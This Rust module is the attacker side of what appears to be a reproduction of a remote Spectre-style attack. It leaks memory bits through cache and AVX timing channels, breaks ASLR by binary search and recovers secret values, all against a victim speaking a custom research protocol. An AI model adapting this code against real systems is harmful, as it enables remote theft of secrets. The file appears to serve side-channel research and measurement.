//! The remote attacker: corner-case calibration, four-step bit extraction
//! over the cache and AVX channels, ASLR binary search and value
//! thresholding. Only round-trip times are observed.

use std::ops::Range;
use std::time::Duration;

use log::{debug, warn};
use thiserror::Error;

pub use crate::stats::Calibration;
use crate::stats::{
    bayes_from_mean, histogram, pooled_stddev, smoothed_mode, threshold_classify, Histogram,
    HistogramSpec, MeasurementSet, ModeEstimate, Phase, StatsError,
};
use crate::wire::{
    aslr_index_arg, aslr_range_arg, value_cmp_arg, Opcode, RequestPacket, ResponsePacket, Sample,
    Status, Transport, WireError,
};

/// Paper byte times, minutes per byte over a local network.
pub const PAPER_CACHE_BYTE_MINUTES: f64 = 30.0;
pub const PAPER_AVX_BYTE_MINUTES: f64 = 8.0;

#[derive(Debug, Error)]
pub enum AttackError {
    #[error("victim unreachable: {0}")]
    Unreachable(#[from] WireError),
    #[error("victim rejected {opcode}: {status:?}")]
    Rejected { opcode: Opcode, status: Status },
    #[error(
        "calibration failed: hit/miss means differ by {gap:.2} ns, need at least {required:.2} ns; raise the measurement count"
    )]
    Calibration { gap: f64, required: f64 },
    #[error("invalid plan: {0}")]
    InvalidPlan(String),
    #[error(transparent)]
    Stats(#[from] StatsError),
    #[error("round {round} inconsistent after {attempts} attempts (hits: lower={lower}, upper={upper})")]
    Inconsistent {
        round: u32,
        attempts: u32,
        lower: bool,
        upper: bool,
    },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Channel {
    Cache,
    Avx,
}

impl Channel {
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "cache" => Some(Channel::Cache),
            "avx" => Some(Channel::Avx),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            Channel::Cache => "cache",
            Channel::Avx => "avx",
        }
    }

    pub fn leak_opcode(self) -> Opcode {
        match self {
            Channel::Cache => Opcode::LeakCache,
            Channel::Avx => Opcode::LeakAvx,
        }
    }

    pub fn transmit_opcode(self) -> Opcode {
        match self {
            Channel::Cache => Opcode::TransmitCache,
            Channel::Avx => Opcode::TransmitAvx,
        }
    }
}

/// How the attacker lets the AVX unit power down.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum WaitMode {
    /// ADVANCE_CLOCK against a virtual-clock victim.
    AdvanceClock,
    /// Real sleep against a wall-clock victim.
    Sleep,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DecisionRule {
    /// Gaussian likelihood ratio over the sample mean.
    Bayes,
    /// Smoothed-histogram mode against the threshold.
    HistogramMode,
}

impl DecisionRule {
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "bayes" => Some(DecisionRule::Bayes),
            "mode" | "histogram" => Some(DecisionRule::HistogramMode),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        match self {
            DecisionRule::Bayes => "bayes",
            DecisionRule::HistogramMode => "mode",
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct ExtractionPlan {
    pub channel: Channel,
    pub measurements_per_bit: usize,
    /// Corner-case samples per class; `None` uses `measurements_per_bit`.
    pub calibration_samples: Option<usize>,
    pub mistrain_count: u32,
    pub reset_bytes: u64,
    pub avx_wait_ns: u64,
    /// Out-of-bounds bit indices to leak, MSB-first within each byte.
    pub target_bit_range: Range<u64>,
    /// In-bounds index used for mistraining.
    pub train_index: u64,
    pub wait_mode: WaitMode,
    pub decision: DecisionRule,
    pub histogram: HistogramSpec,
    /// |z| below this marks a bit low-confidence.
    pub min_confidence: f64,
    /// Cost of one request on the network being projected to.
    pub per_packet_ns: f64,
    /// Raw samples kept per [`BitResult`], from the start of the run.
    pub sample_limit: usize,
}

impl Default for ExtractionPlan {
    fn default() -> Self {
        Self {
            channel: Channel::Cache,
            measurements_per_bit: 1_000_000,
            calibration_samples: None,
            mistrain_count: 10,
            reset_bytes: 590_000,
            avx_wait_ns: 1_000_000,
            target_bit_range: 128..192,
            train_index: 0,
            wait_mode: WaitMode::AdvanceClock,
            decision: DecisionRule::Bayes,
            histogram: HistogramSpec::default(),
            min_confidence: 1.0,
            per_packet_ns: 20_500.0,
            sample_limit: 0,
        }
    }
}

impl ExtractionPlan {
    pub fn validate(&self) -> Result<(), AttackError> {
        let bad = |m: &str| Err(AttackError::InvalidPlan(m.to_string()));
        if self.measurements_per_bit == 0 || self.calibration_samples == Some(0) {
            return bad("measurement counts must be >= 1");
        }
        if self.channel == Channel::Cache && self.reset_bytes == 0 {
            return bad("reset_bytes must be > 0 for the cache channel");
        }
        if self.target_bit_range.start > self.target_bit_range.end {
            return bad("target_bit_range is reversed");
        }
        if !(self.per_packet_ns.is_finite() && self.per_packet_ns >= 0.0) {
            return bad("per_packet_ns must be >= 0");
        }
        self.histogram.validate()?;
        Ok(())
    }

    pub fn calibration_count(&self) -> usize {
        self.calibration_samples.unwrap_or(self.measurements_per_bit)
    }

    /// Requests a single measurement loop sends (waits excluded).
    pub fn requests_per_loop(&self) -> u64 {
        let reset = match self.channel {
            Channel::Cache => 1,
            Channel::Avx => 0,
        };
        u64::from(self.mistrain_count) + reset + 2
    }
}

/// Bit index range for a byte range, MSB-first.
pub fn byte_range_bits(bytes: Range<u64>) -> Range<u64> {
    bytes.start * 8..bytes.end * 8
}

/// A request channel with nonce management, timeout retries and
/// per-opcode accounting.
pub struct Session<T: Transport> {
    transport: T,
    next_nonce: u64,
    counts: [u64; 10],
    waits: u64,
    pub max_retries: u32,
    timeouts: u64,
}

impl<T: Transport> Session<T> {
    pub fn new(transport: T) -> Self {
        Self {
            transport,
            next_nonce: 1,
            counts: [0; 10],
            waits: 0,
            max_retries: 3,
            timeouts: 0,
        }
    }

    pub fn transport(&self) -> &T {
        &self.transport
    }

    pub fn transport_mut(&mut self) -> &mut T {
        &mut self.transport
    }

    pub fn into_transport(self) -> T {
        self.transport
    }

    pub fn count(&self, op: Opcode) -> u64 {
        self.counts[op.index()]
    }

    pub fn total_requests(&self) -> u64 {
        self.counts.iter().sum()
    }

    /// Requests that are part of the attack itself. ADVANCE_CLOCK only
    /// stands in for waiting, so it is accounted as a wait instead.
    pub fn attack_requests(&self) -> u64 {
        self.total_requests() - self.count(Opcode::AdvanceClock)
    }

    pub fn waits(&self) -> u64 {
        self.waits
    }

    pub fn timeouts(&self) -> u64 {
        self.timeouts
    }

    fn packet(&mut self, op: Opcode, arg: u64) -> RequestPacket {
        let p = RequestPacket::new(op, arg, self.next_nonce);
        self.next_nonce = self.next_nonce.wrapping_add(1);
        p
    }

    fn check(op: Opcode, r: ResponsePacket) -> Result<ResponsePacket, AttackError> {
        match r.status {
            Status::Ok => Ok(r),
            status => Err(AttackError::Rejected { opcode: op, status }),
        }
    }

    fn with_retries<X>(
        &mut self,
        op: Opcode,
        arg: u64,
        mut f: impl FnMut(&mut T, &RequestPacket) -> Result<X, WireError>,
    ) -> Result<X, AttackError> {
        let mut attempt = 0;
        loop {
            let p = self.packet(op, arg);
            self.counts[op.index()] += 1;
            match f(&mut self.transport, &p) {
                Ok(x) => return Ok(x),
                Err(e) if e.is_retryable() && attempt < self.max_retries => {
                    self.timeouts += 1;
                    attempt += 1;
                    debug!("{op} timed out, retry {attempt}");
                }
                Err(e) => return Err(e.into()),
            }
        }
    }

    pub fn request(&mut self, op: Opcode, arg: u64) -> Result<ResponsePacket, AttackError> {
        let r = self.with_retries(op, arg, |t, p| t.send(p))?;
        Self::check(op, r)
    }

    pub fn timed(&mut self, op: Opcode, arg: u64) -> Result<f64, AttackError> {
        let (r, rtt) = self.with_retries(op, arg, |t, p| t.send_timed(p))?;
        Self::check(op, r)?;
        Ok(rtt)
    }

    /// Lets `ns` of victim time pass.
    pub fn wait(&mut self, mode: WaitMode, ns: u64) -> Result<(), AttackError> {
        self.waits += 1;
        match mode {
            WaitMode::AdvanceClock => self.request(Opcode::AdvanceClock, ns).map(|_| ()),
            WaitMode::Sleep => {
                self.transport.sleep(Duration::from_nanos(ns));
                Ok(())
            }
        }
    }

    fn reset_channel(&mut self, plan: &ExtractionPlan) -> Result<(), AttackError> {
        match plan.channel {
            Channel::Cache => self.request(Opcode::Download, plan.reset_bytes).map(|_| ()),
            Channel::Avx => self.wait(plan.wait_mode, plan.avx_wait_ns),
        }
    }
}

/// Calibration plus the corner-case samples behind it.
#[derive(Debug, Clone)]
pub struct CalibrationRun {
    pub calibration: Calibration,
    pub hit: MeasurementSet,
    pub miss: MeasurementSet,
}

fn finish_calibration(
    hit: MeasurementSet,
    miss: MeasurementSet,
    plan: &ExtractionPlan,
) -> Result<CalibrationRun, AttackError> {
    let (h, m) = (hit.rtts(), miss.rtts());
    let n = h.len();
    let mean_hit = hit.mean()?;
    let mean_miss = miss.mean()?;
    let sigma = if n >= 2 { pooled_stddev(&h, &m)? } else { 0.0 };
    let gap = mean_miss - mean_hit;
    let required = 4.0 * sigma / (n as f64).sqrt();
    if gap <= 0.0 || gap.abs() < required {
        return Err(AttackError::Calibration { gap, required });
    }
    // The class centres are whatever statistic the decision compares: a
    // mode sits away from the mean once the clamp at zero skews the noise.
    let calibration = match plan.decision {
        DecisionRule::Bayes => Calibration::from_means(mean_hit, mean_miss, sigma),
        DecisionRule::HistogramMode => {
            let mode = |v: &[f64]| -> Result<f64, AttackError> {
                let h = histogram(v, &plan.histogram)?;
                Ok(smoothed_mode(&h, plan.histogram.smoothing_window)?.refined_ns)
            };
            Calibration::from_means(mode(&h)?, mode(&m)?, sigma)
        }
    };
    Ok(CalibrationRun {
        calibration,
        hit,
        miss,
    })
}

/// Measures the known-fast and known-slow transmit timings, N each,
/// interleaved. No separability check.
pub fn measure_corner_cases<T: Transport>(
    session: &mut Session<T>,
    plan: &ExtractionPlan,
) -> Result<(MeasurementSet, MeasurementSet), AttackError> {
    plan.validate()?;
    let n = plan.calibration_count();
    let tx = plan.channel.transmit_opcode();
    let mut hit = MeasurementSet::with_capacity(Phase::Hit, n);
    let mut miss = MeasurementSet::with_capacity(Phase::Miss, n);
    for i in 0..n as u64 {
        session.request(tx, 0)?;
        hit.push(Sample {
            sequence: i,
            rtt_ns: session.timed(tx, 0)?,
        });
        session.reset_channel(plan)?;
        miss.push(Sample {
            sequence: i,
            rtt_ns: session.timed(tx, 0)?,
        });
    }
    Ok((hit, miss))
}

/// Corner-case calibration; fails when the two classes are not separated
/// by at least four standard errors.
pub fn calibrate_samples<T: Transport>(
    session: &mut Session<T>,
    plan: &ExtractionPlan,
) -> Result<CalibrationRun, AttackError> {
    let (hit, miss) = measure_corner_cases(session, plan)?;
    finish_calibration(hit, miss, plan)
}

pub fn calibrate<T: Transport>(
    session: &mut Session<T>,
    plan: &ExtractionPlan,
) -> Result<Calibration, AttackError> {
    calibrate_samples(session, plan).map(|r| r.calibration)
}

/// Signed two-proportion z statistic of samples below vs above the
/// threshold. Positive favours the fast side; infinite when one side is
/// empty.
pub fn below_threshold_z(values: &[f64], threshold: f64) -> f64 {
    let n = values.len() as f64;
    let below = values.iter().filter(|&&v| v < threshold).count() as f64;
    let (pb, pa) = (below / n, 1.0 - below / n);
    if pb == 0.0 {
        return f64::NEG_INFINITY;
    }
    if pa == 0.0 {
        return f64::INFINITY;
    }
    (pb - pa) / (2.0 * (pb * pa / n).sqrt())
}

#[derive(Debug, Clone)]
pub struct BitResult {
    pub index: u64,
    pub bit: u8,
    /// |z| of the below-threshold proportion.
    pub confidence: f64,
    pub low_confidence: bool,
    /// All samples identical at a value neither calibration class
    /// produced, e.g. a stuck or replaying victim.
    pub degenerate: bool,
    pub mean_ns: f64,
    pub llr: f64,
    pub mode: ModeEstimate,
    pub histogram: Histogram,
    pub samples: Option<MeasurementSet>,
}

/// Decides a bit from its samples under the plan's rule.
pub fn decide_bit(
    index: u64,
    rtts: &[f64],
    plan: &ExtractionPlan,
    calib: &Calibration,
) -> Result<BitResult, AttackError> {
    let n = rtts.len();
    if n == 0 {
        return Err(StatsError::Empty.into());
    }
    let mean_ns = rtts.iter().sum::<f64>() / n as f64;
    let hist = histogram(rtts, &plan.histogram)?;
    let mode = smoothed_mode(&hist, plan.histogram.smoothing_window)?;
    let (bayes_bit, llr) = bayes_from_mean(mean_ns, n, calib);
    let bit = match plan.decision {
        DecisionRule::Bayes => bayes_bit,
        DecisionRule::HistogramMode => threshold_classify(mode.refined_ns, calib),
    };
    let confidence = below_threshold_z(rtts, calib.threshold).abs();
    let v0 = rtts[0];
    let degenerate = calib.sigma_est > 0.0
        && rtts.iter().all(|&v| v == v0)
        && (v0 - calib.mean_hit).abs() > 1e-6
        && (v0 - calib.mean_miss).abs() > 1e-6;
    Ok(BitResult {
        index,
        bit,
        confidence,
        low_confidence: degenerate || confidence < plan.min_confidence,
        degenerate,
        mean_ns,
        llr,
        mode,
        histogram: hist,
        samples: None,
    })
}

/// Runs N measurement loops (mistrain, reset, out-of-bounds leak, timed
/// transmit) against one out-of-bounds bit index.
pub fn leak_bit<T: Transport>(
    session: &mut Session<T>,
    plan: &ExtractionPlan,
    calib: &Calibration,
    bit_index: u64,
) -> Result<BitResult, AttackError> {
    let leak = plan.channel.leak_opcode();
    let tx = plan.channel.transmit_opcode();
    let mut rtts = Vec::with_capacity(plan.measurements_per_bit);
    for _ in 0..plan.measurements_per_bit {
        for _ in 0..plan.mistrain_count {
            session.request(leak, plan.train_index)?;
        }
        session.reset_channel(plan)?;
        session.request(leak, bit_index)?;
        rtts.push(session.timed(tx, 0)?);
    }
    let mut result = decide_bit(bit_index, &rtts, plan, calib)?;
    if plan.sample_limit > 0 {
        let k = plan.sample_limit.min(rtts.len());
        result.samples = Some(MeasurementSet::from_rtts(Phase::Unknown, &rtts[..k]));
    }
    Ok(result)
}

/// Leak-rate accounting projected onto the plan's per-packet cost.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct RateEstimate {
    pub bits: u64,
    pub attack_requests: u64,
    pub waits: u64,
    pub requests_per_bit: f64,
    /// Seconds per bit from request traffic alone.
    pub request_seconds_per_bit: f64,
    /// Seconds per bit spent waiting for the AVX unit to power down.
    pub wait_seconds_per_bit: f64,
}

impl RateEstimate {
    pub fn new(bits: u64, attack_requests: u64, waits: u64, plan: &ExtractionPlan) -> Self {
        let b = bits.max(1) as f64;
        let requests_per_bit = attack_requests as f64 / b;
        let wait_ns = if plan.channel == Channel::Avx {
            plan.avx_wait_ns as f64
        } else {
            0.0
        };
        Self {
            bits,
            attack_requests,
            waits,
            requests_per_bit,
            request_seconds_per_bit: requests_per_bit * plan.per_packet_ns * 1e-9,
            wait_seconds_per_bit: waits as f64 / b * wait_ns * 1e-9,
        }
    }

    pub fn seconds_per_bit(&self) -> f64 {
        self.request_seconds_per_bit + self.wait_seconds_per_bit
    }

    pub fn bits_per_hour(&self) -> f64 {
        3600.0 / self.seconds_per_bit()
    }

    pub fn byte_minutes(&self) -> f64 {
        8.0 * self.seconds_per_bit() / 60.0
    }

    /// Byte time from request traffic only.
    pub fn request_byte_minutes(&self) -> f64 {
        8.0 * self.request_seconds_per_bit / 60.0
    }
}

#[derive(Debug, Clone)]
pub struct LeakReport {
    pub bits: Vec<u8>,
    pub results: Vec<BitResult>,
    pub rate: RateEstimate,
    pub low_confidence_bits: usize,
}

impl LeakReport {
    pub fn bytes(&self) -> Vec<u8> {
        crate::stats::bits_to_bytes(&self.bits)
    }
}

/// Leaks every bit of the plan's target range in order. `on_bit` sees each
/// result and the running rate estimate. Low-confidence bits are kept and
/// counted rather than aborting.
pub fn leak_range<T: Transport>(
    session: &mut Session<T>,
    plan: &ExtractionPlan,
    calib: &Calibration,
    mut on_bit: impl FnMut(&BitResult, &RateEstimate),
) -> Result<LeakReport, AttackError> {
    plan.validate()?;
    let (req0, waits0) = (session.attack_requests(), session.waits());
    let mut results = Vec::new();
    for (i, x) in plan.target_bit_range.clone().enumerate() {
        let r = leak_bit(session, plan, calib, x)?;
        if r.low_confidence {
            warn!("bit {x}: low confidence (|z| = {:.3})", r.confidence);
        }
        let rate = RateEstimate::new(
            i as u64 + 1,
            session.attack_requests() - req0,
            session.waits() - waits0,
            plan,
        );
        on_bit(&r, &rate);
        results.push(r);
    }
    let rate = RateEstimate::new(
        results.len() as u64,
        session.attack_requests() - req0,
        session.waits() - waits0,
        plan,
    );
    Ok(LeakReport {
        bits: results.iter().map(|r| r.bit).collect(),
        low_confidence_bits: results.iter().filter(|r| r.low_confidence).count(),
        results,
        rate,
    })
}

#[derive(Debug, Clone, PartialEq)]
pub struct AslrPlan {
    pub space_bits: u32,
    pub probes_per_check: usize,
    /// In-bounds probes before each range probe.
    pub mistrain_count: u32,
    /// Training probes sent once before the search starts.
    pub warmup: u32,
    pub max_attempts: u32,
    pub train_index: u32,
    /// Timing samples per class for calibration; `None` means `probes_per_check`.
    pub calibration_probes: Option<usize>,
}

impl Default for AslrPlan {
    fn default() -> Self {
        Self {
            space_bits: 20,
            probes_per_check: 1_000_000,
            mistrain_count: 1,
            warmup: 3,
            max_attempts: 3,
            train_index: 0,
            calibration_probes: None,
        }
    }
}

impl AslrPlan {
    pub fn validate(&self) -> Result<(), AttackError> {
        if !(1..=31).contains(&self.space_bits) {
            return Err(AttackError::InvalidPlan(format!(
                "space_bits must be in 1..=31, got {}",
                self.space_bits
            )));
        }
        if self.probes_per_check == 0 || self.max_attempts == 0 || self.calibration_count() == 0 {
            return Err(AttackError::InvalidPlan(
                "probes_per_check, calibration_probes and max_attempts must be >= 1".into(),
            ));
        }
        Ok(())
    }

    pub fn calibration_count(&self) -> usize {
        self.calibration_probes.unwrap_or(self.probes_per_check)
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct AslrRound {
    pub round: u32,
    pub lo: u64,
    pub mid: u64,
    pub hi: u64,
    pub attempts: u32,
    pub lower_mean_ns: f64,
    pub upper_mean_ns: f64,
    pub chose_upper: bool,
}

#[derive(Debug, Clone, PartialEq)]
pub struct AslrReport {
    pub offset: u64,
    pub calibration: Calibration,
    pub rounds: Vec<AslrRound>,
    pub requests: u64,
}

fn aslr_check<T: Transport>(
    session: &mut Session<T>,
    plan: &AslrPlan,
    probe_arg: u64,
) -> Result<Vec<f64>, AttackError> {
    let train = aslr_index_arg(plan.train_index);
    let mut rtts = Vec::with_capacity(plan.probes_per_check);
    for _ in 0..plan.probes_per_check {
        for _ in 0..plan.mistrain_count {
            session.request(Opcode::AslrProbe, train)?;
        }
        session.request(Opcode::AslrProbe, probe_arg)?;
        rtts.push(session.timed(Opcode::TimingFn, 0)?);
    }
    Ok(rtts)
}

fn mean(v: &[f64]) -> f64 {
    v.iter().sum::<f64>() / v.len() as f64
}

/// Calibrates the timing function (hit: probe of the whole space first;
/// miss: timing function alone), then binary-searches the valid offset.
pub fn break_aslr<T: Transport>(
    session: &mut Session<T>,
    plan: &AslrPlan,
) -> Result<AslrReport, AttackError> {
    plan.validate()?;
    let start_requests = session.total_requests();
    let train = aslr_index_arg(plan.train_index);
    for _ in 0..plan.warmup {
        session.request(Opcode::AslrProbe, train)?;
    }
    let space = 1u64 << plan.space_bits;
    let n = plan.probes_per_check;
    let cn = plan.calibration_count();
    let mut hit = MeasurementSet::with_capacity(Phase::Hit, cn);
    let mut miss = MeasurementSet::with_capacity(Phase::Miss, cn);
    let full = aslr_range_arg(0, space as u32);
    for i in 0..cn as u64 {
        for _ in 0..plan.mistrain_count {
            session.request(Opcode::AslrProbe, train)?;
        }
        session.request(Opcode::AslrProbe, full)?;
        hit.push(Sample {
            sequence: i,
            rtt_ns: session.timed(Opcode::TimingFn, 0)?,
        });
        miss.push(Sample {
            sequence: i,
            rtt_ns: session.timed(Opcode::TimingFn, 0)?,
        });
    }
    let calib = finish_calibration(hit, miss, &ExtractionPlan::default())?.calibration;

    let (mut lo, mut hi) = (0u64, space);
    let mut rounds = Vec::with_capacity(plan.space_bits as usize);
    for round in 1..=plan.space_bits {
        let mid = lo + (hi - lo) / 2;
        let mut attempt = 0;
        loop {
            attempt += 1;
            let lower = aslr_check(session, plan, aslr_range_arg(lo as u32, mid as u32))?;
            let upper = aslr_check(session, plan, aslr_range_arg(mid as u32, hi as u32))?;
            let (ml, mu) = (mean(&lower), mean(&upper));
            let hit_lower = bayes_from_mean(ml, n, &calib).0 == 1;
            let hit_upper = bayes_from_mean(mu, n, &calib).0 == 1;
            if hit_lower != hit_upper {
                rounds.push(AslrRound {
                    round,
                    lo,
                    mid,
                    hi,
                    attempts: attempt,
                    lower_mean_ns: ml,
                    upper_mean_ns: mu,
                    chose_upper: hit_upper,
                });
                if hit_upper {
                    lo = mid;
                } else {
                    hi = mid;
                }
                break;
            }
            if attempt >= plan.max_attempts {
                return Err(AttackError::Inconsistent {
                    round,
                    attempts: attempt,
                    lower: hit_lower,
                    upper: hit_upper,
                });
            }
            debug!("aslr round {round}: inconsistent, retrying");
        }
    }
    Ok(AslrReport {
        offset: lo,
        calibration: calib,
        rounds,
        requests: session.total_requests() - start_requests,
    })
}

#[derive(Debug, Clone, PartialEq)]
pub struct ValuePlan {
    pub value_bits: u32,
    pub measurements_per_round: usize,
    pub mistrain_count: u32,
    pub reset_bytes: u64,
    /// Slot holding the secret (one past the public slots).
    pub secret_slot: u32,
    pub train_slot: u32,
}

impl Default for ValuePlan {
    fn default() -> Self {
        Self {
            value_bits: 16,
            measurements_per_round: 100_000,
            mistrain_count: 10,
            reset_bytes: 590_000,
            secret_slot: 1,
            train_slot: 0,
        }
    }
}

#[derive(Debug, Clone, PartialEq)]
pub struct ValueRound {
    pub lo: u64,
    pub hi: u64,
    pub guess: u64,
    /// Secret judged greater than `guess`.
    pub above: bool,
    pub mean_ns: f64,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ValueReport {
    pub value: u64,
    pub rounds: Vec<ValueRound>,
}

/// Binary search over `[0, 2^k)`: each round asks whether the secret
/// exceeds `mid - 1`, through the cache channel.
pub fn value_threshold_search<T: Transport>(
    session: &mut Session<T>,
    plan: &ValuePlan,
    calib: &Calibration,
) -> Result<ValueReport, AttackError> {
    if !(1..=32).contains(&plan.value_bits) || plan.measurements_per_round == 0 {
        return Err(AttackError::InvalidPlan(
            "value_bits must be in 1..=32 and measurements_per_round >= 1".into(),
        ));
    }
    let train = value_cmp_arg(plan.train_slot, 0);
    let n = plan.measurements_per_round;
    let (mut lo, mut hi) = (0u64, 1u64 << plan.value_bits);
    let mut rounds = Vec::with_capacity(plan.value_bits as usize);
    for _ in 0..plan.value_bits {
        let mid = lo + (hi - lo) / 2;
        let guess = mid - 1;
        let probe = value_cmp_arg(plan.secret_slot, guess as u32);
        let mut sum = 0.0;
        for _ in 0..n {
            for _ in 0..plan.mistrain_count {
                session.request(Opcode::ValueCmp, train)?;
            }
            session.request(Opcode::Download, plan.reset_bytes)?;
            session.request(Opcode::ValueCmp, probe)?;
            sum += session.timed(Opcode::TransmitCache, 0)?;
        }
        let mean_ns = sum / n as f64;
        let above = bayes_from_mean(mean_ns, n, calib).0 == 1;
        rounds.push(ValueRound {
            lo,
            hi,
            guess,
            above,
            mean_ns,
        });
        if above {
            lo = mid;
        } else {
            hi = mid;
        }
    }
    Ok(ValueReport { value: lo, rounds })
}
